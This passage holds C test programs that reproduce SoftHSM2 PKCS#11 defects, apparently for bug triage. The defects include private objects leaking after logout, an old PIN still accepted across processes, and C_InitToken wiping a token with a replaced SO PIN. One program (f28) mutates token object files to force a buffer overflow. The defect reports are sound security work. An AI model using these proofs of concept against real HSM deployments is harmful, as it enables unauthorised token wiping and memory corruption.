	CK_OBJECT_HANDLE a, b, c, got[16];
	CK_ULONG n = 0;
	int hit;

	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s1 = open_rw(slot); s2 = open_rw(slot);
	MUST(make_data(s1, CK_TRUE, CK_FALSE, "keep-1", &a));
	MUST(make_data(s1, CK_TRUE, CK_FALSE, "victim", &b));
	MUST(make_data(s1, CK_FALSE, CK_FALSE, "keep-2", &c));
	SAY("  created public objects keep-1=%lu (token) victim=%lu (token) keep-2=%lu (session)", a, b, c);
	MUST(F->C_FindObjectsInit(s2, NULL_PTR, 0));
	SAY("  session %lu: C_FindObjectsInit(empty template) -> CKR_OK", s2);
	MUST(F->C_DestroyObject(s1, b));
	SAY("  session %lu: C_DestroyObject(victim=%lu) -> CKR_OK", s1, b);
	MUST(F->C_FindObjects(s2, got, 16, &n));
	SAY("  session %lu: C_FindObjects -> %lu handles", s2, n);
	hit = count_and_probe(s2, got, n, b, "the DESTROYED object");
	MUST(F->C_FindObjectsFinal(s2));
	F->C_Finalize(NULL_PTR);
	return hit;
}

/* Scenario B: the owning session is closed -> its session objects are destroyed */
static int scenario_session_closed(void)
{
	CK_SLOT_ID slot;
	CK_SESSION_HANDLE s1, s2;
	CK_OBJECT_HANDLE a, got[16];
	CK_ULONG n = 0;
	int hit;

	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s1 = open_rw(slot); s2 = open_rw(slot);
	MUST(make_data(s1, CK_FALSE, CK_FALSE, "sess-obj", &a));
	SAY("  session %lu created public session object %lu", s1, a);
	MUST(F->C_FindObjectsInit(s2, NULL_PTR, 0));
	SAY("  session %lu: C_FindObjectsInit(empty template) -> CKR_OK", s2);
	MUST(F->C_CloseSession(s1));
	SAY("  C_CloseSession(%lu) -> CKR_OK (destroys session object %lu)", s1, a);
	MUST(F->C_FindObjects(s2, got, 16, &n));
	SAY("  session %lu: C_FindObjects -> %lu handles", s2, n);
	hit = count_and_probe(s2, got, n, a, "the session object that died with its session");
	MUST(F->C_FindObjectsFinal(s2));
	F->C_Finalize(NULL_PTR);
	return hit;
}

/* Scenario C: the user logs out -> private objects may not be seen any more */
static int scenario_logout(void)
{
	CK_SLOT_ID slot;
	CK_SESSION_HANDLE s1, s2;
	CK_OBJECT_HANDLE pub, prv, got[16];
	CK_ULONG n = 0;
	int hit;

	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s1 = open_rw(slot); s2 = open_rw(slot);
	MUST(login_user(s1, "userpin1"));
	MUST(make_data(s1, CK_TRUE, CK_FALSE, "public-obj", &pub));
	MUST(make_data(s1, CK_TRUE, CK_TRUE, "private-obj", &prv));
	SAY("  user logged in; created public token object %lu and PRIVATE token object %lu", pub, prv);
	MUST(F->C_FindObjectsInit(s2, NULL_PTR, 0));
	SAY("  session %lu: C_FindObjectsInit(empty template) -> CKR_OK", s2);
	MUST(F->C_Logout(s1));
	SAY("  C_Logout -> CKR_OK; session %lu state is now %lu (CKS_RW_PUBLIC_SESSION=%d)", s2, state_of(s2), (int)CKS_RW_PUBLIC_SESSION);
	MUST(F->C_FindObjects(s2, got, 16, &n));
	SAY("  session %lu (public): C_FindObjects -> %lu handles", s2, n);
	hit = count_and_probe(s2, got, n, prv, "the PRIVATE object, returned to a public session");
	MUST(F->C_FindObjectsFinal(s2));
	F->C_Finalize(NULL_PTR);
	return hit;
}

static int setup(void)
{
	MUST(F->C_Initialize(NULL_PTR));
	new_token("tokA", "sopin123", "userpin1");
	MUST(F->C_Finalize(NULL_PTR));
	return 0;
}

int main(int argc, char** argv)
{
	int a, b, c;
	if (argc < 2) SETUP_FAIL("usage: repro <libdir>");
	g_lib = argv[1];
	make_conf();
	load_lib(g_lib);
	if (run_child(setup, 60) != 0) { rm_rf_dir(); return 2; }

	SAY("Property C19: \"C_FindObjectsInit followed by any number of C_FindObjects calls ... returns ... precisely those objects");
	SAY("  of the session's token that the session may see (... private ones only with the user logged in ...).");
	SAY("  Objects of other tokens, destroyed objects and non-matching objects are never returned.\"");
	SAY("");
	SAY("Scenario A: C_DestroyObject between C_FindObjectsInit and C_FindObjects");
	a = run_child(scenario_destroyed, 60);
	SAY("  => %s", a == 1 ? "VIOLATION: the destroyed object was returned" : a == 0 ? "ok: destroyed object not returned" : "scenario failed");
	SAY("Scenario B: C_CloseSession of the owning session between C_FindObjectsInit and C_FindObjects");
	b = run_child(scenario_session_closed, 60);
	SAY("  => %s", b == 1 ? "VIOLATION: the destroyed session object was returned" : b == 0 ? "ok" : "scenario failed");
	SAY("Scenario C: C_Logout between C_FindObjectsInit and C_FindObjects");
	c = run_child(scenario_logout, 60);
	SAY("  => %s", c == 1 ? "VIOLATION: a private object was returned to a session that is not logged in" : c == 0 ? "ok" : "scenario failed");
	rm_rf_dir();

	if (a > 1 || b > 1 || c > 1) return 2;
	if (a == 1 || b == 1 || c == 1) { SAY("DEFECT REPRODUCED"); return 1; }
	SAY("not reproduced");
	return 0;
}
