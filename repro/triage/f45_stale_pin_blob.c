/*
 * Defect 2 (C04, also C14): a process that already has the library initialised
 * keeps authenticating against the PIN blobs it read at C_Initialize.  After
 * another process changed a PIN, the first process accepts the OLD PIN and
 * rejects the CURRENT one - for C_Login, C_SetPIN and even C_InitToken.
 */
#include "p11h_e.h"

static int a2b[2], b2a[2];

static void sync_send(int fd) { if (write(fd, "x", 1) != 1) SETUP_FAIL("pipe write"); }
static void sync_wait(int fd) { char c; if (read(fd, &c, 1) != 1) SETUP_FAIL("pipe read"); }

static int count_objects(CK_SESSION_HANDLE s)
{
	CK_OBJECT_HANDLE got[32]; CK_ULONG n = 0;
	MUST(F->C_FindObjectsInit(s, NULL_PTR, 0));
	MUST(F->C_FindObjects(s, got, 32, &n));
	MUST(F->C_FindObjectsFinal(s));
	return (int)n;
}

static int setup(void)
{
	CK_SLOT_ID slot; CK_SESSION_HANDLE s; CK_OBJECT_HANDLE o;
	MUST(F->C_Initialize(NULL_PTR));
	slot = new_token("tokA", "so-pin-OLD", "user-pin-OLD");
	s = open_rw(slot);
	MUST(make_data(s, CK_TRUE, CK_FALSE, "precious", &o));
	MUST(F->C_Finalize(NULL_PTR));
	return 0;
}

/* ---- scenario 1: user PIN ------------------------------------------------ */

static int s1_procB(void)
{
	CK_SLOT_ID slot; CK_SESSION_HANDLE s; CK_RV rv;
	sync_wait(a2b[0]);
	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s = open_rw(slot);
	rv = F->C_SetPIN(s, (CK_UTF8CHAR_PTR)"user-pin-OLD", 12, (CK_UTF8CHAR_PTR)"user-pin-NEW", 12);
	SAY("  [B] C_SetPIN(user-pin-OLD -> user-pin-NEW) -> 0x%lx", rv);
	if (rv != CKR_OK) return 2;
	rv = login_user(s, "user-pin-NEW");
	SAY("  [B] C_Login(USER, user-pin-NEW) -> 0x%lx", rv);
	MUST(F->C_Finalize(NULL_PTR));
	sync_send(b2a[1]);
	return 0;
}

static int s1_procA(void)
{
	CK_SLOT_ID slot; CK_SESSION_HANDLE s; CK_RV rvOld, rvNew;
	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s = open_rw(slot);
	SAY("  [A] C_Initialize, C_OpenSession; C_Login(USER, user-pin-OLD) -> 0x%lx; C_Logout", login_user(s, "user-pin-OLD"));
	F->C_Logout(s);
	sync_send(a2b[1]);
	sync_wait(b2a[0]);
	rvOld = login_user(s, "user-pin-OLD");
	SAY("  [A] C_Login(USER, user-pin-OLD)  (the replaced PIN) -> 0x%lx %s", rvOld, rvOld == CKR_OK ? "CKR_OK  <-- logged in with a PIN that is no longer the user PIN" : "");
	if (rvOld == CKR_OK) F->C_Logout(s);
	rvNew = login_user(s, "user-pin-NEW");
	SAY("  [A] C_Login(USER, user-pin-NEW)  (the current PIN)  -> 0x%lx %s", rvNew, rvNew == CKR_PIN_INCORRECT ? "CKR_PIN_INCORRECT  <-- the current PIN is refused" : "");
	if (rvNew == CKR_OK) F->C_Logout(s);
	F->C_Finalize(NULL_PTR);
	return (rvOld == CKR_OK || rvNew != CKR_OK) ? 1 : 0;
}

/* ---- scenario 2: SO PIN and C_InitToken ---------------------------------- */

static int s2_procB(void)
{
	CK_SLOT_ID slot; CK_SESSION_HANDLE s; CK_RV rv;
	sync_wait(a2b[0]);
	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s = open_rw(slot);
	MUST(login_so(s, "so-pin-OLD"));
	rv = F->C_SetPIN(s, (CK_UTF8CHAR_PTR)"so-pin-OLD", 10, (CK_UTF8CHAR_PTR)"so-pin-NEW", 10);
	SAY("  [B] SO session: C_SetPIN(so-pin-OLD -> so-pin-NEW) -> 0x%lx", rv);
	if (rv != CKR_OK) return 2;
	MUST(F->C_Finalize(NULL_PTR));
	sync_send(b2a[1]);
	return 0;
}

static int s2_procA(void)
{
	CK_SLOT_ID slot; CK_SESSION_HANDLE s; CK_RV rv, rvOld, rvNew; char lab[33]; int before, after;
	MUST(F->C_Initialize(NULL_PTR));
	slot = slot_by_label("tokA");
	s = open_rw(slot);
	before = count_objects(s);
	MUST(F->C_CloseSession(s));
	SAY("  [A] C_Initialize; token holds %d object(s); no session open", before);
	sync_send(a2b[1]);
	sync_wait(b2a[0]);
	memset(lab, ' ', 32); memcpy(lab, "tokA", 4);
	rv = F->C_InitToken(slot, (CK_UTF8CHAR_PTR)"so-pin-OLD", 10, (CK_UTF8CHAR_PTR)lab);
	SAY("  [A] C_InitToken(so-pin-OLD)  (the replaced SO PIN) -> 0x%lx %s", rv, rv == CKR_OK ? "CKR_OK  <-- token re-initialised with a PIN that is not the SO PIN" : "");
	s = open_rw(slot);
	after = count_objects(s);
	SAY("  [A] token now holds %d object(s)", after);
	rvOld = login_so(s, "so-pin-OLD");
	if (rvOld == CKR_OK) F->C_Logout(s);
	rvNew = login_so(s, "so-pin-NEW");
	SAY("  [A] afterwards: C_Login(SO, so-pin-OLD) -> 0x%lx ; C_Login(SO, so-pin-NEW) -> 0x%lx  (the SO PIN really is so-pin-NEW)", rvOld, rvNew);
	F->C_Finalize(NULL_PTR);
	return rv == CKR_OK ? 1 : 0;
}

static int two_processes(int (*fa)(void), int (*fb)(void))
{
	pid_t pa, pb; int sa = 0, sb = 0;
	if (pipe(a2b) != 0 || pipe(b2a) != 0) SETUP_FAIL("pipe");
	fflush(stdout);
	pa = fork(); if (pa == 0) { alarm(60); int r = fa(); fflush(stdout); _exit(r); }
	pb = fork(); if (pb == 0) { alarm(60); int r = fb(); fflush(stdout); _exit(r); }
	waitpid(pa, &sa, 0); waitpid(pb, &sb, 0);
	close(a2b[0]); close(a2b[1]); close(b2a[0]); close(b2a[1]);
	if (!WIFEXITED(sa) || !WIFEXITED(sb) || WEXITSTATUS(sb) != 0) return 2;
	return WEXITSTATUS(sa);
}

int main(int argc, char** argv)
{
	int r1, r2;
	if (argc < 2) SETUP_FAIL("usage: repro <libdir>");
	make_conf();
	load_lib(argv[1]);
	if (run_child(setup, 60) != 0) { rm_rf_dir(); return 2; }

	SAY("Property C04: \"A PIN logs a user in if and only if it equals the PIN most recently set for that user type on that token ...\"");
	SAY("Property C14: \"C_InitToken ... on an initialised token it succeeds only with the correct SO PIN ...\"");
	SAY("");
	SAY("Scenario 1: process A has the library initialised; process B changes the user PIN with C_SetPIN");
	r1 = two_processes(s1_procA, s1_procB);
	SAY("  => %s", r1 == 1 ? "VIOLATION (C04): in process A the old PIN still logs in and the current PIN does not" : r1 == 0 ? "ok" : "scenario failed");
	SAY("Scenario 2: process A has the library initialised; process B changes the SO PIN; A calls C_InitToken with the OLD SO PIN");
	r2 = two_processes(s2_procA, s2_procB);
	SAY("  => %s", r2 == 1 ? "VIOLATION (C14/C04): C_InitToken accepted a PIN that is not the SO PIN and wiped the token" : r2 == 0 ? "ok" : "scenario failed");
	rm_rf_dir();
	if (r1 > 1 || r2 > 1) return 2;
	if (r1 == 1 || r2 == 1) { SAY("DEFECT REPRODUCED"); return 1; }
	SAY("not reproduced");
	return 0;
}
