/* F21: C_UnwrapKey(CKM_DES3_CBC_PAD) does not check the type of the unwrapping key (an AES key is accepted as a 3DES key).
 * build: gcc f21_unwrap_des3_keytype.c -I/repo/src/lib/pkcs11 -ldl -o f21 ; needs SOFTHSM2_CONF and a token initialised by ./replay setup */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s));
 CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_BYTE val[24]; memset(val,0,24); for(int i=0;i<24;i++) val[i]=(CK_BYTE)(2*i+1);
 CK_OBJECT_CLASS sk=CKO_SECRET_KEY; CK_KEY_TYPE aes=CKK_AES, des3=CKK_DES3, gen=CKK_GENERIC_SECRET; CK_BBOOL t=CK_TRUE,f=CK_FALSE;
 CK_ATTRIBUTE ta[]={{CKA_CLASS,&sk,sizeof sk},{CKA_KEY_TYPE,&aes,sizeof aes},{CKA_VALUE,val,24},{CKA_UNWRAP,&t,1},{CKA_TOKEN,&f,1}};
 CK_ATTRIBUTE td[]={{CKA_CLASS,&sk,sizeof sk},{CKA_KEY_TYPE,&des3,sizeof des3},{CKA_VALUE,val,24},{CKA_ENCRYPT,&t,1},{CKA_TOKEN,&f,1}};
 CK_OBJECT_HANDLE ka,kd,out; CK(p->C_CreateObject(s,ta,5,&ka)); CK(p->C_CreateObject(s,td,5,&kd));
 CK_BYTE iv[8]={0}; CK_MECHANISM m={CKM_DES3_CBC_PAD,iv,8}; CK_BYTE pt[16]="0123456789abcdef", ct[64]; CK_ULONG cl=sizeof ct;
 CK(p->C_EncryptInit(s,&m,kd)); CK(p->C_Encrypt(s,pt,16,ct,&cl));
 CK_ATTRIBUTE tn[]={{CKA_CLASS,&sk,sizeof sk},{CKA_KEY_TYPE,&gen,sizeof gen},{CKA_TOKEN,&f,1},{CKA_EXTRACTABLE,&t,1},{CKA_SENSITIVE,&f,1}};
 CK_RV rv=p->C_UnwrapKey(s,&m,ka,ct,cl,tn,5,&out);
 printf("F21 C_UnwrapKey(CKM_DES3_CBC_PAD, unwrapping key = CKK_AES) rv=0x%lx (0x%lx = CKR_UNWRAPPING_KEY_TYPE_INCONSISTENT, 0x%lx=WRAPPING_KEY_TYPE_INCONSISTENT)\n",rv,(unsigned long)CKR_UNWRAPPING_KEY_TYPE_INCONSISTENT,(unsigned long)CKR_WRAPPING_KEY_TYPE_INCONSISTENT);
 return rv==CKR_OK; }
