/* F22: deriveDH / deriveECDH / deriveEDDSA compute CKA_CHECK_VALUE from the key object that still holds the FULL shared secret, while CKA_VALUE is the
 * secret truncated to the requested length (and parity-adjusted for DES): whenever truncation happens the check value does not belong to the key value.
 * ECDH P-256 (32-byte secret) -> AES-128 key; the standard check value is the first 3 bytes of AES-ECB(key, 0^16), computed here with the token itself.
 * Needs a token from ./replay setup (user PIN 1234). */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
static void hex(const char*t,CK_BYTE*b,CK_ULONG n){ printf("%s",t); for(CK_ULONG i=0;i<n;i++) printf("%02x",b[i]); printf("\n"); }
int main(int argc,char**argv){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_BBOOL T=CK_TRUE,F=CK_FALSE; CK_BYTE p256[]={0x06,0x08,0x2a,0x86,0x48,0xce,0x3d,0x03,0x01,0x07};
 CK_MECHANISM kg={CKM_EC_KEY_PAIR_GEN,NULL,0}; CK_ATTRIBUTE pub[]={{CKA_EC_PARAMS,p256,sizeof p256},{CKA_TOKEN,&F,1}}; CK_ATTRIBUTE prv[]={{CKA_DERIVE,&T,1},{CKA_TOKEN,&F,1},{CKA_PRIVATE,&T,1}};
 CK_OBJECT_HANDLE hpub,hprv; CK(p->C_GenerateKeyPair(s,&kg,pub,2,prv,3,&hpub,&hprv));
 CK_BYTE point[80]; CK_ATTRIBUTE gp={CKA_EC_POINT,point,sizeof point}; CK(p->C_GetAttributeValue(s,hpub,&gp,1));
 /* EC_POINT is a DER OCTET STRING: 04 41 04 X Y */
 CK_ECDH1_DERIVE_PARAMS dp; memset(&dp,0,sizeof dp); dp.kdf=CKD_NULL; dp.pPublicData=point+2; dp.ulPublicDataLen=gp.ulValueLen-2;
 CK_MECHANISM dm={CKM_ECDH1_DERIVE,&dp,sizeof dp}; int bad=0;
 for(int len=32; len>=16; len-=16){
  CK_OBJECT_CLASS kc=CKO_SECRET_KEY; CK_KEY_TYPE kt=CKK_AES; CK_ULONG vl=len;
  CK_ATTRIBUTE t[]={{CKA_CLASS,&kc,sizeof kc},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_VALUE_LEN,&vl,sizeof vl},{CKA_TOKEN,&F,1},{CKA_PRIVATE,&F,1},{CKA_SENSITIVE,&F,1},{CKA_EXTRACTABLE,&T,1},{CKA_ENCRYPT,&T,1}};
  CK_OBJECT_HANDLE hk; CK(p->C_DeriveKey(s,&dm,hprv,t,8,&hk));
  CK_BYTE val[64],kcv[8]; CK_ATTRIBUTE ga[]={{CKA_VALUE,val,sizeof val},{CKA_CHECK_VALUE,kcv,sizeof kcv}}; CK(p->C_GetAttributeValue(s,hk,ga,2));
  CK_BYTE zero[16]={0},ct[32]; CK_ULONG cl=sizeof ct; CK_MECHANISM em={CKM_AES_ECB,NULL,0}; CK(p->C_EncryptInit(s,&em,hk)); CK(p->C_Encrypt(s,zero,16,ct,&cl));
  printf("ECDH P-256 -> AES key of %d bytes (%s)\n",len,len==32?"no truncation":"secret truncated");
  hex("   CKA_CHECK_VALUE        = ",kcv,ga[1].ulValueLen); hex("   AES-ECB(key,0)[0..2]   = ",ct,3);
  int ok=ga[1].ulValueLen==3 && !memcmp(kcv,ct,3); printf("   %s\n",ok?"check value belongs to the key":"BROKEN: CKA_CHECK_VALUE is not the check value of CKA_VALUE"); if(!ok) bad++; }
 return bad!=0; }
