#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p; static CK_BBOOL T=CK_TRUE,F_=CK_FALSE;
int main(int argc,char**argv){ void*h=dlopen(argv[1],RTLD_NOW); CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p);
 p->C_Initialize(NULL); CK_ULONG n=8; CK_SLOT_ID s[8]; p->C_GetSlotList(CK_TRUE,s,&n); CK_SESSION_HANDLE hs; p->C_OpenSession(s[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&hs); p->C_Login(hs,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4);
 if(!strcmp(argv[2],"create")){ CK_OBJECT_CLASS c=CKO_PUBLIC_KEY; CK_KEY_TYPE kt=CKK_RSA; CK_BYTE mod[128]; memset(mod,0xC3,128); CK_BYTE e[]={1,0,1}; CK_OBJECT_HANDLE o=0;
   CK_ATTRIBUTE t[]={{CKA_CLASS,&c,sizeof c},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&T,1},{CKA_LABEL,"spki",4},{CKA_MODULUS,mod,128},{CKA_PUBLIC_EXPONENT,e,3},{CKA_PUBLIC_KEY_INFO,"abcd",4}};
   CK_RV rv=p->C_CreateObject(hs,t,7,&o); printf("create rv=0x%lx\n",rv); }
 CK_ATTRIBUTE ft[]={{CKA_LABEL,"spki",4}}; CK_OBJECT_HANDLE o[2]; CK_ULONG c=0; p->C_FindObjectsInit(hs,ft,1); p->C_FindObjects(hs,o,2,&c); p->C_FindObjectsFinal(hs);
 if(c){ char buf[16]={0}; CK_ATTRIBUTE a={CKA_PUBLIC_KEY_INFO,buf,16}; CK_RV rv=p->C_GetAttributeValue(hs,o[0],&a,1); printf("[%s] CKA_PUBLIC_KEY_INFO rv=0x%lx value='%.*s' (len %ld)\n",argv[2],rv,(int)(a.ulValueLen<16?a.ulValueLen:0),buf,(long)a.ulValueLen); } else puts("object not found");
 return 0; }
