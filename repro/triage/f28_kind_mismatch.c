/* F28: P11Attribute::retrieve() checks the caller's buffer against the size the ATTRIBUTE promises (1 byte for CKA_TOKEN) but copies according to the kind the OBJECT FILE stores.
 * A file whose CKA_TOKEN record says "unsigned long" (corrupt / mutated file) makes C_GetAttributeValue write 8 bytes into the caller's 1-byte buffer.
 * The buffer is the last byte before a PROT_NONE page, so the overflow is a SIGSEGV.  usage: f28 <token dir>   (SOFTHSM2_CONF points to it; token from ./replay setup, user PIN 1234) */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include <unistd.h>
#include <dirent.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); fflush(stdout); _exit(2);} }while(0)
static void load(void){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());_exit(2);} CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); }
static CK_SESSION_HANDLE login(void){ CK(p->C_Initialize(NULL)); CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4)); return s; }
static unsigned long be(const unsigned char*b){ unsigned long v=0; for(int i=0;i<8;i++) v=(v<<8)|b[i]; return v; }
static int mutate(const char* path){ FILE*f=fopen(path,"rb"); if(!f) return 0; unsigned char buf[65536]; size_t n=fread(buf,1,sizeof buf,f); fclose(f);
 /* generation, then records: type(8) kind(8) value; only boolean/ulong records come before CKA_TOKEN=1?  walk generically for the kinds this object has */
 size_t o=8; while(o+16<=n){ unsigned long type=be(buf+o), kind=be(buf+o+8); size_t v=o+16;
  if(type==CKA_TOKEN && kind==1){ unsigned char out[65536+8]; memcpy(out,buf,v); out[o+15]=2; memset(out+v,0x41,8); memcpy(out+v+8,buf+v+1,n-v-1); f=fopen(path,"wb"); fwrite(out,1,n+7,f); fclose(f); return 1; }
  if(kind==1) o=v+1; else if(kind==2) o=v+8; else if(kind==3) o=v+8+be(buf+v); else return 0; }
 return 0; }
int main(int argc,char**argv){ if(argc<2){puts("usage: f28 <token dir>");return 2;} load();
 pid_t pid=fork(); if(pid==0){ CK_SESSION_HANDLE s=login(); CK_OBJECT_CLASS c=CKO_DATA; CK_BBOOL T=CK_TRUE,F=CK_FALSE; CK_ATTRIBUTE t[]={{CKA_CLASS,&c,sizeof c},{CKA_TOKEN,&T,1},{CKA_PRIVATE,&F,1},{CKA_LABEL,"f28",3}}; CK_OBJECT_HANDLE h; CK(p->C_CreateObject(s,t,4,&h)); p->C_Finalize(NULL); _exit(0);} int st; waitpid(pid,&st,0);
 /* find the object file */
 char sub[1024]="", path[2048]=""; DIR*d=opendir(argv[1]); struct dirent*e; while((e=readdir(d))) if(e->d_name[0]!='.'){ snprintf(sub,sizeof sub,"%s/%s",argv[1],e->d_name); } closedir(d);
 d=opendir(sub); int done=0; while((e=readdir(d))){ size_t l=strlen(e->d_name); if(l>7 && !strcmp(e->d_name+l-7,".object") && strcmp(e->d_name,"token.object")){ snprintf(path,sizeof path,"%s/%s",sub,e->d_name); done+=mutate(path);} } closedir(d);
 printf("object files rewritten so that CKA_TOKEN is stored as an unsigned long: %d\n",done); if(!done) return 2; fflush(stdout);
 pid=fork(); if(pid==0){ CK_SESSION_HANDLE s=login(); CK_ATTRIBUTE ft[]={{CKA_LABEL,"f28",3}}; CK_OBJECT_HANDLE h; CK_ULONG n=0; CK(p->C_FindObjectsInit(s,ft,1)); CK(p->C_FindObjects(s,&h,1,&n)); CK(p->C_FindObjectsFinal(s)); if(n!=1){ printf("object not found any more (n=%lu)\n",n); fflush(stdout); _exit(0);} 
  long pg=sysconf(_SC_PAGESIZE); unsigned char*m=mmap(NULL,2*pg,PROT_READ|PROT_WRITE,MAP_PRIVATE|MAP_ANONYMOUS,-1,0); mprotect(m+pg,pg,PROT_NONE); CK_ATTRIBUTE g={CKA_TOKEN,m+pg-1,1};
  CK_RV rv=p->C_GetAttributeValue(s,h,&g,1); printf("C_GetAttributeValue(CKA_TOKEN, 1-byte buffer) -> 0x%lx, ulValueLen=%ld\n",rv,(long)g.ulValueLen); fflush(stdout); _exit(0);} waitpid(pid,&st,0);
 if(WIFSIGNALED(st)){ printf("BROKEN: the library wrote past the caller's 1-byte buffer (signal %d)\n",WTERMSIG(st)); return 1;} printf("stayed inside the buffer\n"); return 0; }
