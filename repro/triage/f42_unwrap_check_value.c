/*
 * Defect 3: C_UnwrapKey checks a CKA_CHECK_VALUE given in the template against the
 * (still empty) CKA_VALUE of the object under construction instead of the unwrapped value.
 *  - the correct check value of the key is rejected (CKR_ATTRIBUTE_VALUE_INVALID),
 *  - the check value of the EMPTY string is accepted and stored, so the unwrapped key
 *    carries a non-empty CKA_CHECK_VALUE that is not the check value of its value.
 *
 * Known-answer vectors used (no crypto library needed):
 *   SHA-1("abc") = a9993e36...   -> KCV of the generic secret "abc"      = a9 99 3e
 *   SHA-1("")    = da39a3ee...   -> KCV of an empty generic secret       = da 39 a3
 *   AES-128(key = 0^16, block = 0^16) = 66e94bd4... -> KCV of the zero AES key = 66 e9 4b
 *
 * exit 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
#include "p11h.h"

#define A(t, v) { t, &v, sizeof(v) }

static CK_OBJECT_CLASS skClass = CKO_SECRET_KEY;
static CK_KEY_TYPE ktAES = CKK_AES, ktGeneric = CKK_GENERIC_SECRET;

static int scenario(const char *libdir)
{
	CK_RV rv;
	int wrongStored = 0, rightRejectedGeneric = 0, rightRejectedAes = 0;
	p11_setup(libdir, NULL);
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	/* wrapping key */
	CK_BYTE wk[16]; memset(wk, 0x5a, sizeof wk);
	CK_ATTRIBUTE wT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), { CKA_VALUE, wk, 16 }, A(CKA_WRAP, ckTrue), A(CKA_UNWRAP, ckTrue) };
	CK_OBJECT_HANDLE hW;
	CHECK_SETUP(F->C_CreateObject(s, wT, 5, &hW));
	CK_BYTE iv[16] = { 0 };
	CK_MECHANISM mech = { CKM_AES_CBC_PAD, iv, sizeof iv };

	/* ---- generic secret "abc" ---- */
	CK_BYTE abc[3] = { 'a', 'b', 'c' };
	CK_BYTE kcvAbc[3] = { 0xa9, 0x99, 0x3e }, kcvEmpty[3] = { 0xda, 0x39, 0xa3 };
	CK_ATTRIBUTE gT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), { CKA_VALUE, abc, 3 }, A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	CK_OBJECT_HANDLE hG;
	CHECK_SETUP(F->C_CreateObject(s, gT, 5, &hG));
	CK_BYTE k[8]; CK_ULONG kl = sizeof k;
	CHECK_SETUP(get_attr(s, hG, CKA_CHECK_VALUE, k, &kl));
	hexdump("generic secret \"abc\" created with C_CreateObject, CKA_CHECK_VALUE", k, kl);
	if (kl != 3 || memcmp(k, kcvAbc, 3)) { printf("SET-UP PROBLEM: unexpected check value\n"); return 2; }

	CK_BYTE blob[64]; CK_ULONG bl = sizeof blob;
	CHECK_SETUP(F->C_WrapKey(s, &mech, hW, hG, blob, &bl));
	printf("wrapped with CKM_AES_CBC_PAD: %lu bytes\n", bl);

	CK_OBJECT_HANDLE hU = CK_INVALID_HANDLE;
	CK_ATTRIBUTE u0[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktGeneric), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue) };
	rv = F->C_UnwrapKey(s, &mech, hW, blob, bl, u0, 4, &hU);
